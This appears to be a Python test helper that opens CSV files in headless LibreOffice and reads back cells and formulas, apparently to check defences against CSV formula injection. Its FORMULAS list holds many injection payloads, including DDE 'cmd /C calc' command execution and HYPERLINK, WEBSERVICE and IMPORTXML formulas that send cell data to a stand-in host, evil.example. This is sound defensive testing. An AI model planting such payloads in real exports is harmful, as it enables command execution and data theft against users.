"""CSV opened by LibreOffice, and what it found: words, and formulas. Without LibreOffice the tests fail."""

import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

# What people and attackers write; each would be calculated, or could be, by some spreadsheet.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "=SUM(A1:A9)",
    "==1+1",
    "=-1",
    "=@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "- a bullet",
    "-A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    '"=1+1',
    '"=1+1"',
    "'=1+1",
    "‘=1+1",
    '";=1+1;"',
    '",=1+1,"',
    "a;=1+1;b",
    'a";=1+1;"b',
    "a\t=1+1\tb",
    "a\n=1+1\nb",
    "a\r=1+1\rb",
    "a\r\n@SUM(1)\r\nb",
    'a"\r\n=1+1\r\n"b',
    "a; +1+1",
    "a\n- one\n- two",
    'a","=1+1","b',
)


@dataclass(frozen=True)
class Sheet:
    """The cells of a sheet by row, as text, and every formula in it."""

    rows: list[list[str]]
    formulas: list[str]


def opened(content: bytes, folder: Path, *, separator: str = ",") -> Sheet:
    """The file as LibreOffice reads it, with a profile that is thrown away."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is missing: apt-get install --no-install-recommends libreoffice-calc-nogui"
    source = folder / "file.csv"
    source.write_bytes(content)
    profile, filter_ = (folder / "profile").as_uri(), f"CSV:{ord(separator)},34,76,1"
    command = [soffice, "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods"]
    command += [f"--infilter={filter_}", "--outdir", str(folder), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return _sheet(folder / "file.fods")


def _sheet(path: Path) -> Sheet:
    root = ElementTree.parse(path).getroot()
    cells = list(root.iter(f"{TABLE}table-cell"))
    formulas = [formula for each in cells if (formula := each.get(f"{TABLE}formula"))]
    return Sheet([_row(row) for row in root.iter(f"{TABLE}table-row")], formulas)


def _row(row: ElementTree.Element) -> list[str]:
    found: list[str] = []
    for each in row.iter(f"{TABLE}table-cell"):
        value = each.get(f"{OFFICE}value") or "\n".join(_words(line) for line in each.iter(f"{TEXT}p"))
        found += [value] * (int(each.get(f"{TABLE}number-columns-repeated", "1")) if value else 1)
    return found


def _words(line: ElementTree.Element) -> str:
    """A run of spaces is an element of its own in the format."""
    parts = [line.text or ""]
    for part in line:
        spaces = int(part.get(f"{TEXT}c", "1")) if part.tag == f"{TEXT}s" else 0
        parts += [" " * spaces or _words(part), part.tail or ""]
    return "".join(parts)
